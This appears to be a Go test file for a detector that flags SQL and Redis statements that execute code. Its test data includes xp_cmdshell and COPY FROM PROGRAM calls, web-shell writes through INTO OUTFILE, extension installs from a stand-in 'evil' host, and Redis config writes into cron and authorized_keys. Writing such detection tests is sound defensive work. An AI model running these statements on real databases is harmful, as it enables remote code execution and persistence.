package sql_test

import (
	"strings"
	"testing"

	"github.com/trammel-dev/trammel/effects/sql"
)

func TestExecutes(t *testing.T) {
	for text, want := range map[string]bool{
		"copy t from program 'id'":                                                   true,
		"COPY/**/(select 1)/**/TO/**/PROGRAM 'id'":                                   true,
		"copy t from '/tmp/a.csv' with csv":                                          false,
		"select program from t":                                                      false,
		"select 1; exec master..xp_cmdshell 'whoami'":                                true,
		"select 'xp_cmdshell'":                                                       false,
		"exec sp_configure 'xp_cmdshell', 1":                                         true,
		"exec sp_configure 'max server memory', 4096":                                false,
		"create function f() returns int as $$ return 1 $$ language plpython3u":      true,
		"create function f() returns int as $$ return 1 $$ language 'plperlu'":       true,
		"create function f() returns int as $$ select 1 $$ language sql":             false,
		"create or replace function f() returns trigger language plpgsql as $$ x $$": false,
		"create extension if not exists plpython3u":                                  true,
		`create extension if not exists "uuid-ossp"`:                                 false,
		"create extension postgis":                                                   false,
		"do language plperlu $$ system('id') $$":                                     true,
		"do $$ begin copy t from program 'id'; end $$":                               true,
		"create function f returns int soname 'u.so'":                                true,
		"select load_extension('/tmp/x.so')":                                         true,
		"select load_extension('mod_spatialite')":                                    false,
		"select load_extension('./vec0')":                                            false,
		"select load_extension('/usr/lib/x86_64-linux-gnu/mod_spatialite')":          false,
		"select 0x7f into dumpfile '/usr/lib/mysql/plugin/u.so'":                     true,
		"select '<?php' into outfile '/var/www/html/x.php'":                          true,
		"select * from t into outfile '/tmp/t.csv'":                                  false,
		"set global general_log_file = '/var/www/html/x.php'":                        true,
		"set global general_log_file = '/var/log/mysql/general.log'":                 false,
		"attach database '/var/www/x.php' as x":                                      true,
		"attach 'other.db' as o":                                                     false,
		"install httpfs; load httpfs":                                                false,
		"install spatial from community":                                             false,
		"install x from 'https://evil.example.net'":                                  true,
		"load '/tmp/x.duckdb_extension'":                                             true,
		"load data local infile 'a.csv' into table t":                                false,
		"alter system set archive_command = 'curl evil'":                             true,
		"alter system set shared_preload_libraries = 'pg_stat_statements'":           false,
		"alter system set shared_preload_libraries = '/tmp/x'":                       true,
		"select * from executable('x.sh', TabSeparated, 'a String')":                 true,
		"create alias x as 'void e() {}'":                                            true,
		"create assembly x from 0x4d5a with permission_set = unsafe":                 true,
		`create or replace and compile java source named "x" as y`:                   true,
		"create table t (alias text, language text, java text, program text)":        false,
		"begin dbms_scheduler.create_job('x', job_type => 'EXECUTABLE'); end":        true,
		"'": false,
		"":  false,
	} {
		if _, got := sql.Executes(text); got != want {
			t.Errorf("%q executes: %v", text, got)
		}
	}
}

func TestRedisExecutes(t *testing.T) {
	for line, want := range map[string]bool{
		"MODULE LOAD /tmp/x.so":                 true,
		"module list":                           false,
		"CONFIG SET dir /var/spool/cron":        true,
		"config set dir /data":                  false,
		"config set dbfilename authorized_keys": true,
		"config set dbfilename dump.rdb":        false,
		"config set maxmemory 1gb dir ~/.ssh/":  true,
		"config get dir":                        false,
		`EVAL "io.popen('id')" 0`:               true,
		`EVAL "return redis.call('get','a')" 0`: false,
	} {
		command, rest, _ := strings.Cut(line, " ")
		if got := sql.RedisExecutes(command, rest); got != want {
			t.Errorf("%q executes: %v", line, got)
		}
	}
}

func FuzzCollections(f *testing.F) {
	f.Add("db.x.drop() // '")
	f.Fuzz(func(t *testing.T, text string) { sql.MongoDrops(text) })
}
